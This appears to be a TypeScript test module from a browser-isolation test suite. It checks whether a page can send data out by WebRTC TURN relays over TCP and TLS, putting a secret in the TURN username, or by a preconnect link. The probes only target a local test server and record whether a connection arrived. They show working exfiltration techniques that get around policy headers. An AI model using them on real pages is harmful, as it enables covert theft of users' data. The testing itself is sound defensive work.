import { expect } from '../fixture';
import type { Attack, Scene } from './attack';

// Attacks that no policy header blocks. A connection alone reveals data to a third party, and its first bytes reveal
// more.

const secret = 'words-of-the-page';

/**
 * Gathers candidates through a TURN server, which receives the page's words as a user name. Ends once no more
 * candidates arrive.
 */
const gather = ({ urls, username }: { readonly urls: string; readonly username: string }) =>
  new Promise<void>((resolve) => {
    const connection = new RTCPeerConnection({
      iceServers: [{ urls, username, credential: 'x' }],
      iceTransportPolicy: 'relay',
    });
    const end = () => {
      connection.close();
      resolve();
    };
    connection.onicegatheringstatechange = () => {
      if (connection.iceGatheringState === 'complete') end();
    };
    connection.createDataChannel('out');
    void connection
      .createOffer()
      .then((offer) => connection.setLocalDescription(offer))
      .catch(end);
  });

/** Nothing tells a page when its hint was followed, or that it was not: so long it is waited for. */
const patienceMs = 2_000;

async function preconnect({ desk: { page }, turn }: Scene): Promise<void> {
  const before = turn.connections();
  await page.evaluate(
    (href) =>
      document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href })),
    `https://127.0.0.1:${turn.port}`,
  );
  await expect
    .poll(turn.connections, { timeout: patienceMs })
    .toBeGreaterThan(before)
    .catch(() => undefined);
}

const relays: Readonly<Record<string, (scene: Scene) => Promise<unknown>>> = {
  'TURN over TCP': ({ desk: { page }, turn }) =>
    page.evaluate(gather, { urls: `turn:127.0.0.1:${turn.port}?transport=tcp`, username: secret }),
  'TURN over TLS': ({ desk: { page }, turn }) =>
    page.evaluate(gather, { urls: `turns:127.0.0.1:${turn.port}?transport=tcp`, username: secret }),
  preconnect,
};

export const networkAttacks: readonly Attack[] = Object.entries(relays).map(
  ([name, attack]): Attack => ({
    name: `a way out by ${name}`,
    gate: 'network',
    code: 'NO_WAY_OUT',
    async run(scene) {
      const before = scene.turn.connections();
      await attack(scene);
      return scene.turn.connections() > before ? undefined : 'NO_WAY_OUT';
    },
  }),
);
